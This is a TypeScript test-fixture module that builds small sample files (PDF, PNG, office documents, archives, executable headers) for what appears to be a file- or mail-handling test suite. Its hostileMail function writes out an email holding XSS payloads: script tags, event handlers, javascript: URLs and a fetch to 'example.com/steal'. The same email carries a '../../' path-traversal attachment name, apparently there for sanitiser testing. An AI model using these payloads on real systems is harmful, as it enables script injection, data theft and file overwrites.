import { zipSync } from 'fflate'
import { PNG } from 'pngjs'

/** Small files of every kind, made here so that no binary lies in the sources. */

export function textFile(text: string): Uint8Array {
  return new TextEncoder().encode(text)
}

/** A picture of one colour. */
export function pngFile(width = 4, height = 4, grey = 128): Uint8Array {
  const png = new PNG({ width, height })
  png.data.fill(grey)
  return new Uint8Array(PNG.sync.write(png))
}

/** A document with one line of text on each page. */
export function pdfFile(lines: readonly string[] = ['Bonjour']): Uint8Array {
  const kids = lines.map((_, index) => `${4 + index * 2} 0 R`).join(' ')
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${lines.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...lines.flatMap((line, index) => {
      const content = `BT /F1 24 Tf 72 700 Td (${line}) Tj ET 0 0 1 rg 72 300 200 200 re f`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + index * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ]
    }),
  ]
  let body = '%PDF-1.4\n'
  const offsets = objects.map((object, index) => {
    const offset = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const start = body.length
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`
  body += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return textFile(body)
}

/** An office document: a container with a list of types, and other parts. */
export function docxFile(parts: Readonly<Record<string, string>> = {}, isWithMacros = false): Uint8Array {
  const main = isWithMacros
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const all = {
    '[Content_Types].xml': `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    'word/document.xml': '<document/>',
    ...parts,
  }
  return zipOf(all)
}

/** A spreadsheet of the same kind. */
export function xlsxFile(): Uint8Array {
  const main = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
  return zipOf({
    '[Content_Types].xml': `<?xml version="1.0"?><Types><Override PartName="/xl/workbook.xml" ContentType="${main}"/></Types>`,
    'xl/workbook.xml': '<workbook/>',
  })
}

export function odtFile(parts: Readonly<Record<string, string>> = {}): Uint8Array {
  return zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<a/>', ...parts })
}

export function zipOf(parts: Readonly<Record<string, string>>): Uint8Array {
  const files = Object.entries(parts).map(([name, text]) => [name, [textFile(text), { level: 0 }]] as const)
  return zipSync(Object.fromEntries(files) as Parameters<typeof zipSync>[0])
}

/** A program of Windows: enough of its head to be known. */
export function programFile(): Uint8Array {
  const bytes = new Uint8Array(1024)
  bytes.set(textFile('MZ'))
  return bytes
}

/** The container of old office documents and of installers; with the streams of a message when asked for. */
export function compoundFile(isMessage = false): Uint8Array {
  const streams = isMessage ? '__properties_version1.0 __substg1.0_0037001F' : 'WordDocument'
  const head = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
  return new Uint8Array([
    ...head,
    ...new Uint8Array(504),
    ...Buffer.from(streams, 'utf16le'),
    ...new Uint8Array(512),
  ])
}

/** A message whose HTML tries everything. */
export function hostileMail(): Uint8Array {
  return textFile(
    [
      'From: =?utf-8?Q?H=C3=A9l=C3=A8ne?= <helene@example.fr>',
      'To: accueil@example.fr, Bruno <bruno@example.fr>',
      'Date: Mon, 09 Nov 2026 10:00:00 +0100',
      'Subject: =?utf-8?Q?R=C3=A9clamation?= <script>alert(1)</script>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="B"',
      '',
      '--B',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<html><head><style>body{background:url(https://example.com/a.png)}</style>',
      '<script>fetch("https://example.com/steal")</script></head>',
      '<body onload="alert(1)"><h1>Bonjour</h1><p>La porte était <b>close</b>.</p>',
      '<img src="https://example.com/track.gif" onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe>',
      '<a href="javascript:alert(4)">cliquez ici</a><form action="https://example.com"><input></form></body></html>',
      '--B',
      'Content-Type: application/pdf; name="../../facture.pdf"',
      'Content-Disposition: attachment; filename="../../facture.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      'JVBERi0xLjQK',
      '--B--',
      '',
    ].join('\r\n'),
  )
}
